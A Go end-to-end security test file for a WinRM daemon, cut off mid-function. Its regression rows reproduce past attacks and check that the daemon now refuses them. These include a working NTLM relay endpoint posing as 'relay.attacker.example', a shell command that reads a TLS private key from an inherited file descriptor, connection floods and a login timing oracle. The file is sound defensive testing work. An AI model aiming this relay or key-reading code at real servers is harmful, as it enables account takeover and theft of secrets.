package e2e

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/winrmd/winrmd/configs"
)

// Regression rows of issue 14 (the attack review): each demonstrates an
// attack that worked on the daemon before its fix. They are counted in the
// summary block with the attack suite's rows (attack_rows / attack_refused /
// attack_executed).

// secRow runs one regression row as a subtest and counts it.
func secRow(t *testing.T, name string, f func(t *testing.T)) {
	t.Helper()
	ok := t.Run(name, f)
	recordStat("attack_rows", 1)
	if ok {
		recordStat("attack_refused", 1)
	}
}

// executed counts an attack that got something to run.
func executed(t *testing.T, format string, a ...any) {
	t.Helper()
	recordStat("attack_executed", 1)
	t.Errorf("EXECUTED: "+format, a...)
}

// pyResult is what test/clients/pywinrm_resolve.py reports.
type pyResult struct {
	OK     bool   `json:"ok"`
	Stdout string `json:"stdout"`
	Stderr string `json:"stderr"`
	Exit   int    `json:"exit"`
	Error  string `json:"error"`
}

// pywinrmAs runs one command with the real pywinrm against url, with the
// given names resolved to addresses by the script itself (see the script).
func pywinrmAs(t *testing.T, url, user, password, transport, command string, resolve map[string]string) pyResult {
	t.Helper()
	wd := need(t)
	in, _ := json.Marshal(map[string]any{"url": url, "user": user, "password": password, "transport": transport,
		"command": command, "resolve": resolve})
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, wd.python, filepath.Join(wd.root, "test", "clients", "pywinrm_resolve.py"))
	cmd.Stdin = bytes.NewReader(in)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	cmd.Env = append(os.Environ(), "PYTHONDONTWRITEBYTECODE=1", "NO_PROXY=*", "no_proxy=*")
	err := cmd.Run()
	var r pyResult
	if jerr := json.Unmarshal(out.Bytes(), &r); jerr != nil {
		t.Fatalf("pywinrm: no result (%v, %v)\nstdout: %s\nstderr: %s", err, jerr, clip(out.Bytes(), 2000), clip(errb.Bytes(), 4000))
	}
	recordStat("client_runs", 1)
	return r
}

// auditWith returns the audit events of kind event whose raw JSON contains
// every one of subs.
func auditWith(d *Daemon, event string, subs ...string) []AuditEvent {
	var out []AuditEvent
	for _, e := range d.AuditEvents() {
		if e.Event != event {
			continue
		}
		all := true
		for _, s := range subs {
			all = all && strings.Contains(e.Raw, s)
		}
		if all {
			out = append(out, e)
		}
	}
	return out
}

// secStoreUser makes an administrator account (tag marks its test) with its
// password in the account store, both removed, with its processes, at the
// end of the test.
func secStoreUser(t *testing.T, wd *world, tag string) *testUser {
	t.Helper()
	name := userPrefix + tag + randHex(3)
	u, err := createUser(name, true)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		killUserProcesses(name, 5*time.Second)
		deleteUser(name)
	})
	if err := wd.storeAdd(wd.store, name, u.Password); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { exec.Command(wd.bin, "user", "del", "--store", wd.store, name).Run() })
	return u
}

// ---- 14.1: NTLM relay from HTTP to the HTTPS listener ----------------------

// ntlmRelay is an attacker's HTTP endpoint: it answers a victim's WinRM
// client and relays the client's NTLM legs, on one TLS connection, to the
// daemon's HTTPS listener. When the daemon accepts the relayed AUTHENTICATE,
// the attacker sends its own Create on that connection.
type ntlmRelay struct {
	ln      net.Listener
	target  string
	results chan *reply // the daemon's answer to the relayed AUTHENTICATE leg, or to the attacker's Create
}

func startRelay(t *testing.T, target string) *ntlmRelay {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	r := &ntlmRelay{ln: ln, target: target, results: make(chan *reply, 16)}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go r.serve(c)
		}
	}()
	return r
}

func (r *ntlmRelay) serve(c net.Conn) {
	defer c.Close()
	back, err := dialRawFrom("", r.target, true)
	if err != nil {
		return
	}
	defer back.Close()
	br := bufio.NewReader(c)
	for {
		c.SetReadDeadline(time.Now().Add(30 * time.Second))
		req, err := http.ReadRequest(br)
		if err != nil {
			return
		}
		io.Copy(io.Discard, io.LimitReader(req.Body, 1<<20))
		authz := req.Header.Get("Authorization")
		hdr := map[string]string{}
		if authz != "" {
			hdr["Authorization"] = authz
		}
		// The victim's bodies are sealed for the attacker's endpoint; only
		// the Authorization legs are worth relaying.
		resp, err := back.request("POST", "/wsman", hdr, nil, 15*time.Second)
		if err != nil || resp.Closed {
			if authz != "" {
				r.results <- &reply{Closed: true}
			}
			return
		}
		if authz != "" && resp.Status == 200 {
			// The relayed logon was accepted: the attacker now owns an
			// authenticated HTTPS connection as the victim.
			cr, err := back.request("POST", "/wsman", nil, []byte(createXML()), 15*time.Second)
			if err != nil {
				cr = &reply{Closed: true}
			}
			r.results <- cr
			fmt.Fprint(c, "HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
			return
		}
		if authz != "" && resp.Status != 401 {
			r.results <- resp
			return
		}
		if _, ok := negotiateToken(resp); !ok && authz != "" {
			// A 401 without a token to a handshake leg: the daemon refused it.
			r.results <- resp
		}
		var b strings.Builder
		fmt.Fprintf(&b, "HTTP/1.1 %d Relayed\r\n", resp.Status)
		for _, v := range resp.Header.Values("WWW-Authenticate") {
			fmt.Fprintf(&b, "WWW-Authenticate: %s\r\n", v)
		}
		b.WriteString("Content-Length: 0\r\n\r\n")
		if _, err := io.WriteString(c, b.String()); err != nil {
			return
		}
		if resp.Header.Get("Connection") == "close" {
			return
		}
	}
}

func TestSecurityNTLMRelay(t *testing.T) {
	need(t)
	d := startDaemon(t, nil) // the default cbt_hardening_level (relaxed)
	host, _ := os.Hostname()

	secRow(t, "relay_http_client_to_https_listener", func(t *testing.T) {
		relay := startRelay(t, d.HTTPS)
		before := d.executions()
		_, port, _ := net.SplitHostPort(relay.ln.Addr().String())
		res := pywinrmAs(t, "http://relay.attacker.example:"+port+"/wsman", w.admin.Name, w.admin.Password, "ntlm", "id -un",
			map[string]string{"relay.attacker.example": "127.0.0.1"})
		if res.OK {
			t.Errorf("the victim's client succeeded through the relay: %+v", res)
		}
		var got *reply
		select {
		case got = <-relay.results:
		case <-time.After(10 * time.Second):
			t.Fatalf("the relay never completed a handshake leg (client: %s)", res.Error)
		}
		if got.Status == 200 || classify(got) == "fault" {
			executed(t, "the relayed logon was accepted; the attacker's Create answered %s", got)
		}
		after := d.executions()
		if after.shellCreates > before.shellCreates {
			executed(t, "shell_create %d→%d", before.shellCreates, after.shellCreates)
		}
		if len(auditWith(d, "logon_failure", w.admin.Name, "service binding", "relay.attacker.example")) == 0 {
			t.Errorf("no logon_failure naming %s and the foreign service name:\n%s", w.admin.Name, tail(d.Audit, 10))
		}
	})

	// The same client reaching this host directly still logs on, and the
	// audit says what the logon was bound to.
	t.Run("direct_https_channel_binding", func(t *testing.T) {
		res := pywinrmAs(t, "https://"+d.HTTPS+"/wsman", w.admin.Name, w.admin.Password, "ntlm", "id -un", nil)
		if !res.OK || strings.TrimSpace(res.Stdout) != w.admin.Name {
			t.Fatalf("pywinrm over HTTPS: %+v", res)
		}
		if len(auditWith(d, "logon_success", w.admin.Name, `"channel_binding":"match"`, `"spn":"`)) == 0 {
			t.Errorf("logon_success without channel_binding=match and the spn:\n%s", tail(d.Audit, 10))
		}
	})
	t.Run("direct_http_by_host_name", func(t *testing.T) {
		_, port, _ := net.SplitHostPort(d.HTTP)
		res := pywinrmAs(t, "http://"+host+":"+port+"/wsman", w.admin.Name, w.admin.Password, "ntlm", "id -un",
			map[string]string{host: "127.0.0.1"})
		if !res.OK || strings.TrimSpace(res.Stdout) != w.admin.Name {
			t.Fatalf("pywinrm over HTTP to %s: %+v", host, res)
		}
		if len(auditWith(d, "logon_success", w.admin.Name, `"channel_binding":"service-name"`, "/"+host)) == 0 {
			t.Errorf("logon_success without channel_binding=service-name and spn */%s:\n%s", host, tail(d.Audit, 10))
		}
	})
}

// ---- 14.2 and 15.4: which account a name becomes ---------------------------

func TestSecurityQualifiedNames(t *testing.T) {
	need(t)
	// An NSS entry with a qualified name, as winbind or sssd returns for a
	// domain account, in an allowed group; its bare twin is the local
	// w.plain (in no allowed group) whose password the attacker knows.
	dom := "wrmde2edom" + randHex(2)
	qualified := dom + `\` + w.plain.Name
	if out, err := exec.Command("useradd", "--badname", "-M", "-N", "-d", "/", "-g", adminGroup, "-s", "/bin/sh",
		"-c", ownerTag(), qualified).CombinedOutput(); err != nil {
		t.Fatalf("useradd %s: %v: %s", qualified, err, out)
	}
	t.Cleanup(func() {
		if out, err := exec.Command("userdel", qualified).CombinedOutput(); err != nil {
			t.Errorf("userdel %s: %v: %s", qualified, err, out)
		}
	})
	d := startDaemon(t, nil)
	_, httpPort, _ := net.SplitHostPort(d.HTTP)
	httpURL := "http://" + d.HTTP + "/wsman"
	httpsURL := "https://" + d.HTTPS + "/wsman"
	_ = httpPort

	for _, tr := range []struct{ name, url, transport string }{
		{"ntlm", httpURL, "ntlm"},
		{"basic", httpsURL, "basic"},
	} {
		secRow(t, "qualified_name_local_password_"+tr.name, func(t *testing.T) {
			before := d.executions()
			res := pywinrmAs(t, tr.url, qualified, w.plain.Password, tr.transport, "id -un", nil)
			if res.OK {
				executed(t, "%s with the local password of %s logged on as %q", qualified, w.plain.Name, strings.TrimSpace(res.Stdout))
			}
			if after := d.executions(); after.shellCreates > before.shellCreates {
				executed(t, "shell_create %d→%d", before.shellCreates, after.shellCreates)
			}
			if n := len(auditWith(d, "logon_success", strings.ReplaceAll(qualified, `\`, `\\`))); n > 0 {
				executed(t, "%d logon_success as %s", n, qualified)
			}
			t.Logf("client: %+v", res)
		})
		secRow(t, "foreign_upn_local_password_"+tr.name, func(t *testing.T) {
			res := pywinrmAs(t, tr.url, w.admin.Name+"@corp.example", w.admin.Password, tr.transport, "id -un", nil)
			if res.OK {
				executed(t, "%s@corp.example (verified locally) logged on as %q", w.admin.Name, strings.TrimSpace(res.Stdout))
			}
		})
	}

	// The local forms every mechanism accepts (issue 15.4).
	host, _ := os.Hostname()
	short, _, _ := strings.Cut(host, ".")
	for _, name := range []string{w.admin.Name + "@" + host, `.\` + w.admin.Name, strings.ToUpper(short) + `\` + w.admin.Name} {
		for _, tr := range []struct{ name, url, transport string }{
			{"ntlm", httpURL, "ntlm"},
			{"basic", httpsURL, "basic"},
		} {
			name, tr := name, tr
			t.Run("local_form_"+tr.name+"_"+strings.ReplaceAll(name, `\`, "_"), func(t *testing.T) {
				res := pywinrmAs(t, tr.url, name, w.admin.Password, tr.transport, "id -un", nil)
				if !res.OK || strings.TrimSpace(res.Stdout) != w.admin.Name {
					t.Fatalf("%s as %q: %+v", tr.name, name, res)
				}
			})
		}
	}
}

// ---- 14.12: the audit trail names who was tried, and never a secret ---------

func TestSecurityAuditFields(t *testing.T) {
	need(t)
	d := startDaemon(t, nil)
	secRow(t, "audit_logon_failure_names_user", func(t *testing.T) {
		wrong := "Wrong-" + randHex(4)
		if r, err := postBasicFrom("", d.HTTPS, true, w.guess.Name, wrong, identifyXML); err != nil || r.Status != 401 {
			t.Fatalf("Basic with a wrong password: %v %v", r, err)
		}
		nc, r, err := dialNTLM(d.HTTP, false, w.guess.Name, wrong, ntlmOpts{})
		if err == nil {
			nc.Close()
		}
		if r == nil || r.Status == 200 {
			t.Fatalf("NTLM with a wrong password: %v %v", r, err)
		}
		for _, scheme := range []string{"Basic", "Negotiate"} {
			found := false
			for _, e := range d.AuditEvents() {
				if e.Event == "logon_failure" && e.Scheme == scheme && strings.EqualFold(strings.TrimPrefix(e.User, `\`), w.guess.Name) {
					found = true
				}
			}
			if !found {
				t.Errorf("no %s logon_failure with user %q:\n%s", scheme, w.guess.Name, tail(d.Audit, 10))
			}
		}
		if b, _ := os.ReadFile(d.Audit); bytes.Contains(b, []byte(wrong)) {
			t.Errorf("the audit log contains the tried password")
		}
	})
	secRow(t, "audit_command_start_hides_assignment", func(t *testing.T) {
		secret := "s3cret" + randHex(4)
		sh, err := createShell(basicClient{d.HTTPS, true, w.admin.Name, w.admin.Password})
		if err != nil {
			t.Fatal(err)
		}
		defer sh.delete()
		res, err := sh.run("WRMD_TOKEN=" + secret + " printenv WRMD_TOKEN")
		if err != nil || strings.TrimSpace(string(res.Stdout)) != secret {
			t.Fatalf("command: %v %v", res, err)
		}
		if b, _ := os.ReadFile(d.Audit); bytes.Contains(b, []byte(secret)) {
			t.Errorf("the audit log contains the assignment's value")
		}
		if len(auditWith(d, "command_start", `"program":"WRMD_TOKEN=… printenv"`)) == 0 {
			t.Errorf("command_start does not record the program as WRMD_TOKEN=… printenv:\n%s", tail(d.Audit, 5))
		}
	})
}

// ---- 14.8: descriptors the daemon inherited never reach a user command -----

func TestSecurityInheritedDescriptor(t *testing.T) {
	wd := need(t)
	secRow(t, "inherited_fd_9_private_key", func(t *testing.T) {
		// The TLS private key, open on descriptor 9 as `exec 9<key.pem` in a
		// wrapper script would leave it.
		key, err := os.Open(wd.key)
		if err != nil {
			t.Fatal(err)
		}
		defer key.Close()
		launchExtraMu.Lock()
		launchExtra = []*os.File{nil, nil, nil, nil, nil, nil, key}
		launchExtraMu.Unlock()
		d := startDaemon(t, nil)
		if _, err := os.Readlink(fmt.Sprintf("/proc/%d/fd/9", d.PID)); err != nil {
			t.Fatalf("precondition: the daemon has no descriptor 9: %v", err)
		}
		sh, err := createShell(basicClient{d.HTTPS, true, w.admin.Name, w.admin.Password})
		if err != nil {
			t.Fatal(err)
		}
		defer sh.delete()
		// test -e stats: listing the directory would itself open one.
		res, err := sh.run("for n in $(seq 0 64); do [ -e /proc/$$/fd/$n ] && printf '%s ' $n; done; (head -c 64 <&9) 2>/dev/null; exit 0")
		if err != nil {
			t.Fatal(err)
		}
		out := string(res.Stdout)
		if strings.Contains(out, "PRIVATE KEY") {
			executed(t, "a remote user read the TLS private key through descriptor 9: %q", out)
		}
		if got := strings.TrimSpace(out); got != "0 1 2" {
			t.Errorf("the command has descriptors %q, want exactly 0 1 2", got)
		}
	})
}

// ---- 14.5: the metrics listener cannot exhaust the daemon's descriptors -----

func TestSecurityMetricsDescriptors(t *testing.T) {
	need(t)
	d := startDaemon(t, nil)
	secRow(t, "metrics_connection_flood_lowered_nofile", func(t *testing.T) {
		// A daemon with a small descriptor budget, as a unit with
		// LimitNOFILE= or a crowded host would give it.
		const limit = 256
		lim := unix.Rlimit{Cur: limit, Max: limit}
		if err := unix.Prlimit(d.PID, unix.RLIMIT_NOFILE, &lim, nil); err != nil {
			t.Fatalf("prlimit: %v", err)
		}
		// Any local user can open connections to the metrics listener.
		var conns []net.Conn
		defer func() {
			for _, c := range conns {
				c.Close()
			}
		}()
		for i := 0; i < 400; i++ {
			c, err := net.DialTimeout("tcp", d.Metrics, 2*time.Second)
			if err != nil {
				break // the kernel's backlog is full: that is no harm to the daemon
			}
			conns = append(conns, c)
		}
		time.Sleep(200 * time.Millisecond) // let the daemon accept what it will
		ents, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", d.PID))
		t.Logf("%d connections open to metrics; the daemon holds %d descriptors (limit %d)", len(conns), len(ents), limit)
		if len(ents) >= limit-16 {
			t.Errorf("the daemon holds %d of its %d descriptors", len(ents), limit)
		}
		// A real client still logs on and runs a command meanwhile.
		res := pywinrmAs(t, "http://"+d.HTTP+"/wsman", w.admin.Name, w.admin.Password, "ntlm", "id -un", nil)
		if !res.OK || strings.TrimSpace(res.Stdout) != w.admin.Name {
			t.Errorf("pywinrm during the metrics flood: %+v", res)
		}
	})
	// Metrics still answer once the flood is gone.
	waitFor(t, 20*time.Second, "metrics to answer again", func() bool {
		_, err := d.MetricsSnapshot()
		return err == nil
	})
}

// ---- 14.11: shells belong to (name, uid); a re-created account is another --

// recreateAccount makes the (deleted) account name again, in the allowed
// group, under a free uid above old; it returns the uid.
func recreateAccount(t *testing.T, name string, old int) int {
	t.Helper()
	uid := old + 1000
	for ; uid < old+2000; uid++ {
		if _, err := user.LookupId(strconv.Itoa(uid)); err != nil {
			break
		}
	}
	if out, err := exec.Command("useradd", "--create-home", "--shell", "/bin/sh", "--comment", ownerTag(),
		"--uid", strconv.Itoa(uid), "--groups", adminGroup, name).CombinedOutput(); err != nil {
		t.Fatalf("useradd again: %v: %s", err, out)
	}
	return uid
}

// accountWithShell makes a store account (tag) with a shell on a new daemon.
func accountWithShell(t *testing.T, tag string) (*testUser, basicClient, *winrsShell) {
	t.Helper()
	u := secStoreUser(t, need(t), tag)
	d := startDaemon(t, nil)
	c := basicClient{d.HTTPS, true, u.Name, u.Password}
	sh, err := createShell(c)
	if err != nil {
		t.Fatal(err)
	}
	return u, c, sh
}

func TestSecurityRecreatedAccount(t *testing.T) {
	u1, c, old := accountWithShell(t, "r")
	name := u1.Name
	secRow(t, "recreated_account_same_name", func(t *testing.T) {
		// The account is deleted and made again under the same name with
		// another uid, within the authorization cache's 30 s; the account
		// store still knows the name and password.
		killUserProcesses(name, 5*time.Second)
		if err := deleteUser(name); err != nil {
			t.Fatal(err)
		}
		uid2 := recreateAccount(t, name, u1.UID)
		// A new shell runs as the account as it is now.
		sh, err := createShell(c)
		if err != nil {
			t.Fatalf("new shell: %v", err)
		}
		defer sh.delete()
		res, err := sh.run("id -u")
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.TrimSpace(string(res.Stdout)); got != strconv.Itoa(uid2) {
			executed(t, "the re-created account's new shell runs as uid %s (the deleted account's was %d, now %d)", got, u1.UID, uid2)
		}
		// The old account's shell is not the new account's.
		r, err := c.Post(commandXML(old.ID, "id -u"))
		if err != nil {
			t.Fatal(err)
		}
		if classify(r) != oDenied {
			executed(t, "the re-created account used the deleted account's shell: %s", r)
		}
	})
}

// The window left by the row above: before any Create refreshed it, a logon
// within the authorization cache's 30 s was decided from the deleted
// account's cached entry (its uid), so the re-created account reached the
// deleted account's live shells. The account database's version now
// invalidates that entry.
func TestSecurityRecreatedAccountBeforeCreate(t *testing.T) {
	u1, c, old := accountWithShell(t, "q")
	name := u1.Name
	t.Cleanup(func() {
		for _, p := range userProcs(u1.UID) {
			syscall.Kill(p.PID, syscall.SIGKILL)
		}
	})
	secRow(t, "recreated_account_old_shell_before_create", func(t *testing.T) {
		// Deleted while its shell runs (userdel --force), and made again
		// under the same name with another uid at once.
		if out, err := exec.Command("userdel", "--force", name).CombinedOutput(); err != nil {
			t.Fatalf("userdel --force: %v: %s", err, out)
		}
		uid2 := recreateAccount(t, name, u1.UID)
		// No Create: straight to the deleted account's shell.
		r, err := c.Post(commandXML(old.ID, "id -u"))
		if err != nil {
			t.Fatal(err)
		}
		if classify(r) != oDenied {
			executed(t, "the re-created account (uid %d) used the deleted account's shell (uid %d) before any Create: %s", uid2, u1.UID, r)
		}
	})
}

// ---- 14.7: one foreign source cannot lock an account out everywhere --------

func TestSecurityLockoutPerSource(t *testing.T) {
	need(t)
	d := startDaemon(t, nil)
	secRow(t, "lockout_from_one_source_right_password_from_another", func(t *testing.T) {
		attacker, owner := srcAddr(), srcAddr()
		for i := 0; i < 7; i++ {
			r, err := postBasicFrom(attacker, d.HTTPS, true, w.guess.Name, "Wrong-"+randHex(3), identifyXML)
			if err != nil || r.Status != 401 {
				t.Fatalf("guess %d: %v %v", i, r, err)
			}
		}
		// The attacker's source is locked out, even with the right password.
		if r, err := postBasicFrom(attacker, d.HTTPS, true, w.guess.Name, w.guess.Password, identifyXML); err != nil || r.Status != 401 {
			t.Errorf("the guessing source with the right password: %v %v (want 401: locked out)", r, err)
		}
		// The owner, from another address, logs on.
		r, err := postBasicFrom(owner, d.HTTPS, true, w.guess.Name, w.guess.Password, identifyXML)
		if err != nil || r.Status != 200 {
			t.Errorf("the right password from another source after a foreign lockout: %v %v", r, err)
		}
	})
}

// ---- 14.10: Basic is verified again when the password changes --------------

func TestSecurityBasicPasswordChange(t *testing.T) {
	wd := need(t)
	u := secStoreUser(t, wd, "p")
	name := u.Name
	d := startDaemon(t, nil)
	secRow(t, "basic_after_password_change_same_connection", func(t *testing.T) {
		rc, err := dialRaw(d.HTTPS, true)
		if err != nil {
			t.Fatal(err)
		}
		defer rc.Close()
		hdr := map[string]string{"Authorization": basicAuth(name, u.Password)}
		r, err := rc.request("POST", "/wsman", hdr, []byte(identifyXML), 10*time.Second)
		if err != nil || r.Status != 200 {
			t.Fatalf("first request: %v %v", r, err)
		}
		// The administrator changes the password (the account store).
		cmd := exec.Command(wd.bin, "user", "passwd", "--store", wd.store, name)
		cmd.Stdin = strings.NewReader(randPassword() + "\n")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("winrmd user passwd: %v: %s", err, out)
		}
		r, err = rc.request("POST", "/wsman", hdr, []byte(identifyXML), 10*time.Second)
		if err != nil {
			t.Fatal(err)
		}
		if !r.Closed && r.Status == 200 {
			executed(t, "the old password still works on the open connection after the change")
		}
	})
}

// ---- 14.14: the configuration never claims a scheme that is not served -----

func TestSecurityUnservedSchemes(t *testing.T) {
	need(t)
	secRow(t, "config_claims_unserved_scheme", func(t *testing.T) {
		dir := t.TempDir()
		p := filepath.Join(dir, "w.yaml")
		// Basic switched on with only an HTTP listener (and no
		// allow_unencrypted) can never be offered.
		yaml := "listeners:\n  - {transport: http, address: 127.0.0.1, port: 0}\nservice:\n  auth:\n    basic: true\n    kerberos: false\n"
		if _, err := os.Stat("/etc/krb5.keytab"); err != nil {
			// Kerberos on (the default) without any keytab is not served.
			yaml = strings.Replace(yaml, "kerberos: false", "kerberos: true", 1)
		}
		os.WriteFile(p, []byte(yaml), 0o600)
		out, err := cli(t, "", "config", "check", "--config", p)
		if err != nil {
			t.Fatalf("config check: %v\n%s", err, out)
		}
		if !strings.Contains(out, "warning: service.auth.basic is on but") {
			t.Errorf("config check does not say Basic is not served:\n%s", out)
		}
		if strings.Contains(yaml, "kerberos: true") && !strings.Contains(out, "warning: service.auth.kerberos is on but Kerberos is not served") {
			t.Errorf("config check does not say Kerberos is not served:\n%s", out)
		}
		d := startDaemon(t, func(c *configs.Config) {
			c.Listeners = c.Listeners[:1] // http only
		})
		d.stop()
		if b, _ := os.ReadFile(d.Stderr); !bytes.Contains(b, []byte("configuration claims a scheme that is not served")) {
			t.Errorf("start-up does not say a switched-on scheme is not served:\n%s", tail(d.Stderr, 10))
		}
	})
}

// ---- 14.9: a refused account answers as slowly as a wrong password ----------

func TestSecurityTimingOracle(t *testing.T) {
	need(t)
	svc := userPrefix + "pam" + randHex(2)
	pamFile := filepath.Join("/etc/pam.d", svc)
	// The shipped deploy/pam.winrmd shape, scaled down: a delay on failure
	// (0.4 s here, pam_unix's own 2 s switched off), then the host's
	// passwords; the daemon's refusal floor above it (1 s here, 3 s by
	// default against PAM's 2 s).
	if err := os.WriteFile(pamFile, []byte("auth required pam_faildelay.so delay=400000\nauth required pam_unix.so nodelay\naccount required pam_unix.so\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(pamFile) })
	var users []*testUser
	for _, admin := range []bool{true, false} {
		u, err := createUser(userPrefix+"t"+randHex(3), admin)
		if err != nil {
			t.Fatal(err)
		}
		users = append(users, u)
		t.Cleanup(func() { deleteUser(u.Name) })
		cmd := exec.Command("chpasswd")
		cmd.Stdin = strings.NewReader(u.Name + ":" + u.Password + "\n")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("chpasswd: %v: %s", err, out)
		}
	}
	allowed, refused := users[0], users[1]
	d := startDaemon(t, func(c *configs.Config) {
		c.Accounts.StoreFile = ""
		c.Accounts.PAMService = svc
		c.Service.Auth.FailureDelayMS = 1000
	})
	secRow(t, "pam_timing_refused_account_vs_wrong_password", func(t *testing.T) {
		// Sanity: both passwords are right for PAM.
		if r, err := postBasicFrom(srcAddr(), d.HTTPS, true, allowed.Name, allowed.Password, identifyXML); err != nil || r.Status != 200 {
			t.Fatalf("allowed account with its password: %v %v", r, err)
		}
		measure := func(user, pass string) time.Duration {
			start := time.Now()
			r, err := postBasicFrom(srcAddr(), d.HTTPS, true, user, pass, identifyXML)
			el := time.Since(start)
			if err != nil || r.Status != 401 {
				t.Fatalf("%s: %v %v (want 401)", user, r, err)
			}
			return el
		}
		var wrong, right []time.Duration
		for i := 0; i < 7; i++ {
			wrong = append(wrong, measure(allowed.Name, "Wrong-"+randHex(3)))
			right = append(right, measure(refused.Name, refused.Password))
		}
		mw, mr := median(wrong), median(right)
		ratio := float64(max(mw, mr)) / float64(max(min(mw, mr), time.Millisecond))
		t.Logf("median 401: wrong password %v, right password of a refused account %v (ratio %.2f)", mw, mr, ratio)
		if ratio > 1.25 {
			t.Errorf("the answers' medians differ by %.2f×: timing tells a right password of a refused account from a wrong one", ratio)
		}
	})
}

func median(ds []time.Duration) time.Duration {
	s := append([]time.Duration(nil), ds...)
	for i := range s {
		for j := i + 1; j < len(s); j++ {
			if s[j] < s[i] {
				s[i], s[j] = s[j], s[i]
			}
		}
	}
	return s[len(s)/2]
}

// ---- 14.4: idle unauthenticated connections cannot lock clients out --------

func TestSecurityIdleUnauthenticatedConnections(t *testing.T) {
	need(t)
	d := startDaemon(t, nil) // service.max_connections: 300, Windows' default
	secRow(t, "300_idle_unauthenticated_connections", func(t *testing.T) {
		src := srcAddr()
		var held []*rawConn
		defer func() {
			for _, rc := range held {
				rc.Close()
			}
		}()
		for i := 0; i < d.Config.Service.MaxConnections; i++ {
			rc, err := dialRawFrom(src, d.HTTP, false)
			if err != nil {
				t.Fatalf("connection %d: %v", i, err)
			}
			held = append(held, rc)
			// An empty POST: its 401 keeps the connection open (a refused
			// body would close it).
			r, err := rc.request("POST", "/wsman", nil, nil, 10*time.Second)
			if err != nil || r.Status != 401 {
				t.Fatalf("connection %d: %v %v (want 401)", i, r, err)
			}
		}
		// A real client logs on over both listeners meanwhile.
		for _, url := range []string{"https://" + d.HTTPS + "/wsman", "http://" + d.HTTP + "/wsman"} {
			res := pywinrmAs(t, url, w.admin.Name, w.admin.Password, "ntlm", "id -un", nil)
			if !res.OK || strings.TrimSpace(res.Stdout) != w.admin.Name {
				t.Errorf("pywinrm %s with %d idle unauthenticated connections open: %+v", url, len(held), res)
			}
		}
		// And the idle ones do not stay for the 120 s keep-alive.
		waitFor(t, 30*time.Second, "idle unauthenticated connections to be closed", func() bool {
			open := 0
			for _, rc := range held {
				rc.c.SetReadDeadline(time.Now().Add(time.Millisecond))
				if _, err := rc.br.Peek(1); err != nil && strings.Contains(err.Error(), "timeout") {
					open++
				}
			}
			return open == 0
		})
	})
}

// One source holding every slot with connections that never finish a
// request (nothing, or a header a byte at a time: busy, so never evicted as
// idle, and renewed every read_header_timeout) cannot keep a client at
// another address from logging on.
func TestSecurityUnauthenticatedFloodPerSource(t *testing.T) {
	need(t)
	d := startDaemon(t, nil) // max_connections 300, 200 unauthenticated per source
	secRow(t, "one_source_flood_other_source_logs_on", func(t *testing.T) {
		flood := srcAddr()
		var held []*rawConn
		defer func() {
			for _, rc := range held {
				rc.Close()
			}
		}()
		for i := 0; i < d.Config.Service.MaxConnections; i++ {
			rc, err := dialRawFrom(flood, d.HTTP, false)
			if err != nil {
				t.Fatalf("connection %d: %v", i, err)
			}
			held = append(held, rc)
			rc.c.Write([]byte("POST /wsman HTTP/1.1\r\nHost: x\r\n")) // and never the rest
		}
		// A real client from 127.0.0.1 logs on meanwhile, well within the
		// flood's read_header_timeout.
		res := pywinrmAs(t, "http://"+d.HTTP+"/wsman", w.admin.Name, w.admin.Password, "ntlm", "id -un", nil)
		if !res.OK || strings.TrimSpace(res.Stdout) != w.admin.Name {
			executed(t, "pywinrm from 127.0.0.1 while %s holds %d unfinished connections: %+v", flood, len(held), res)
		}
		if b, _ := os.ReadFile(d.Stderr); !bytes.Contains(b, []byte("max_unauthenticated_connections_per_source")) {
			t.Errorf("the daemon does not say it refused the flooding source:\n%s", tail(d.Stderr, 5))
		}
	})
}

// ---- 14.6: commands nobody reads cannot grow the daemon without bound -----

// procState is the state letter of /proc/pid/stat ("" when gone).
func procState(pid int) string {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return ""
	}
	i := bytes.LastIndexByte(b, ')')
	if i < 0 || i+2 >= len(b) {
		return ""
	}
	return string(b[i+2])
}

func TestSecurityUnreadOutput(t *testing.T) {
	wd := need(t)
	u := secStoreUser(t, wd, "o") // a winrm-remote-users member
	d := startDaemon(t, nil)      // winrs.max_output_buffer_per_user_mb: 64
	c := basicClient{d.HTTPS, true, u.Name, u.Password}
	secRow(t, "400_unread_floods_daemon_rss_bounded", func(t *testing.T) {
		if _, err := relTryShell(c, "echo warm"); err != nil {
			t.Fatal(err)
		}
		// The Go heap in use: a daemon built with -race (make test) keeps
		// shadow memory for its peak heap in its RSS.
		mem := func() int64 {
			m, _ := d.MetricsSnapshot()
			v, _ := Metric(m, "go_memstats_heap_inuse_bytes")
			return int64(v)
		}
		before := mem()
		const nShells, perShell = 4, 100
		var shells []*winrsShell
		defer func() {
			for _, sh := range shells {
				sh.delete()
			}
		}()
		for i := 0; i < nShells; i++ {
			sh, err := createShell(c)
			if err != nil {
				t.Fatal(err)
			}
			shells = append(shells, sh)
			for j := 0; j < perShell; j++ {
				if _, err := sh.command("yes"); err != nil {
					t.Fatalf("command %d of shell %d: %v", j, i, err)
				}
			}
		}
		// Steady state: every yes blocked writing (its credit, or its
		// pipe, full), so the daemon holds all it ever will.
		waitFor(t, 3*time.Minute, "400 yes processes blocked on their output", func() bool {
			n := 0
			for _, p := range userProcs(u.UID) {
				if len(p.Args) == 1 && p.Args[0] == "yes" {
					if procState(p.PID) != "S" {
						return false
					}
					n++
				}
